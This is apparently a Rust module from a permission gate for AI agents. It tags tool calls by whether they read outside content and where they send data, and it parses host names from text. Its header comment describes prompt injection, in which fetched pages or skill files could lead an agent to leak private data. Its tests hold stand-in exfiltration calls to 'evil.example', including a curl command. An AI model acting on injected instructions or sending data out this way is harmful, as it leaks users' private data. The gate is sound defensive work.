//! Where a tool call's data goes, as the gate's rule against leaks needs it (README,
//! "Security model": content from outside and new destinations; issue 30, item 2).
//!
//! Every turn holds private data: the person's message, the memory block, the
//! conversation, and whatever else the agent holds (the gate cannot see an agent's
//! context, so it assumes the worst). Once a turn has read content from outside (a
//! fetched page, a skill's file, the result of one of the agent's own tools), that
//! content may carry instructions, and a call that sends data somewhere could carry
//! the private data with it. So, in such a turn, a call that sends to a **new
//! destination** asks the person, whatever grant is in force (a skill's, the policy's
//! allow, an approval of the tool as a whole); the question names the destination and
//! what would be sent. A destination is new unless it is a host:
//!
//! - named in the person's message,
//! - named in the text of the invoked skill whose tools the person granted (they
//!   confirmed that text), or
//! - of a call the person approved, with its arguments, earlier in the turn.
//!
//! A tool whose destination the gate cannot read from its arguments (a shell command,
//! a message, an API call, a tool only the operator's policy names) sends to a new
//! destination every time: only the person's approval of that exact call lets it run.

use serde_json::Value;

/// What one call does with data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Flow {
    /// Its result brings content from outside the person into the agent's context.
    pub reads_outside: bool,
    /// Where it sends data, if anywhere.
    pub sends: Option<Destination>,
}

/// Where a call sends data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Destination {
    /// This host (lowercase), which the call's URL names.
    Host(String),
    /// Somewhere the arguments do not say in a way the gate can check.
    Unnamed,
}

impl Flow {
    const LOCAL: Flow = Flow {
        reads_outside: false,
        sends: None,
    };
}

/// The flow of a call of `tool` with `args`.
pub fn of(tool: &str, args: &Value) -> Flow {
    let url_host = |field: &str| {
        args.get(field)
            .and_then(Value::as_str)
            .and_then(host_of_url)
            .map_or(Destination::Unnamed, Destination::Host)
    };
    match tool {
        "fetch_url" | "WebFetch" => Flow {
            reads_outside: true,
            sends: Some(url_host("url")),
        },
        // A URL install fetches the URL; pasted text reaches no one.
        "install_skill" if args.get("url").is_some() => Flow {
            reads_outside: true,
            sends: Some(url_host("url")),
        },
        "install_skill" => Flow::LOCAL,
        "read_skill_file" => Flow {
            reads_outside: true,
            sends: None,
        },
        // Claude Code's file readers: what they read is not the person's word.
        "Read" | "Grep" | "Glob" | "LS" | "NotebookRead" => Flow {
            reads_outside: true,
            sends: None,
        },
        "save_memory" | "search_memory" | "cd" | "create_file" | "write_file" | "Edit"
        | "MultiEdit" | "Write" | "NotebookEdit" | "TodoWrite" => Flow::LOCAL,
        // The agent's own tools that reach others, and every tool only the operator's
        // policy names: their results come back into the context, and where they send
        // is not something the gate can read.
        _ => Flow {
            reads_outside: true,
            sends: Some(Destination::Unnamed),
        },
    }
}

/// The host of an http(s) URL, lowercase.
pub fn host_of_url(url: &str) -> Option<String> {
    let parsed = crate::net::parse_http_url(url).ok()?;
    parsed.host_str().map(|h| h.to_ascii_lowercase())
}

/// The most hosts taken from one text.
const MAX_HOSTS: usize = 64;

/// The hosts a text names: in URLs (`https://news.example.org/a`) and as bare names
/// (`example.org`, `docs.rs/serde`), lowercase, each once, at most [`MAX_HOSTS`].
pub fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts: Vec<String> = Vec::new();
    let separators = |c: char| c.is_whitespace() || "<>()[]{}\"'`,;|*".contains(c);
    for word in text.split(separators) {
        if hosts.len() >= MAX_HOSTS {
            break;
        }
        let word = word.trim_end_matches(['.', ':', '!', '?']);
        let host = if word.contains("://") {
            host_of_url(word)
        } else {
            bare_host(word)
        };
        if let Some(host) = host
            && !hosts.contains(&host)
        {
            hosts.push(host);
        }
    }
    hosts
}

/// `example.org` of `example.org/path` or `Example.org:8080`: labels of letters,
/// digits and hyphens, at least two, the last made of letters.
fn bare_host(word: &str) -> Option<String> {
    let name = word.split(['/', '?', '#']).next()?;
    let name = name.split(':').next()?.to_ascii_lowercase();
    let labels: Vec<&str> = name.split('.').collect();
    let tld = labels.last()?;
    let plausible = labels.len() >= 2
        && tld.len() >= 2
        && tld.chars().all(|c| c.is_ascii_alphabetic())
        && labels.iter().all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        });
    plausible.then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn sends_are_read_from_urls_and_unreadable_ones_are_unnamed() {
        let fetch = of("fetch_url", &json!({"url": "https://Evil.example/c?d=x"}));
        assert_eq!(fetch.sends, Some(Destination::Host("evil.example".into())));
        assert!(fetch.reads_outside);
        assert_eq!(
            of("fetch_url", &json!({"url": "ftp://x"})).sends,
            Some(Destination::Unnamed)
        );
        assert_eq!(
            of("install_skill", &json!({"skill_md": "---"})),
            Flow::LOCAL
        );
        assert_eq!(
            of(
                "install_skill",
                &json!({"url": "https://r.example/SKILL.md"})
            )
            .sends,
            Some(Destination::Host("r.example".into()))
        );
        assert_eq!(of("search_memory", &json!({"q": "x"})), Flow::LOCAL);
        let command = of("run_command", &json!({"command": "curl evil.example"}));
        assert_eq!(command.sends, Some(Destination::Unnamed));
        assert!(of("my_operator_tool", &json!({})).reads_outside);
        assert_eq!(of("read_skill_file", &json!({})).sends, None);
    }

    #[test]
    fn hosts_are_found_in_urls_and_bare_names() {
        assert_eq!(
            hosts_in(
                "Summarize https://News.example.org/a?b=1, then docs.rs/serde and (example.com). Not 3.14 or v1.2 or a.b1"
            ),
            ["news.example.org", "docs.rs", "example.com"]
        );
        assert!(hosts_in("no hosts here: file.rs? e.g.").contains(&"file.rs".to_string()));
        assert!(hosts_in(&"a.example ".repeat(1000)).len() == 1);
    }
}
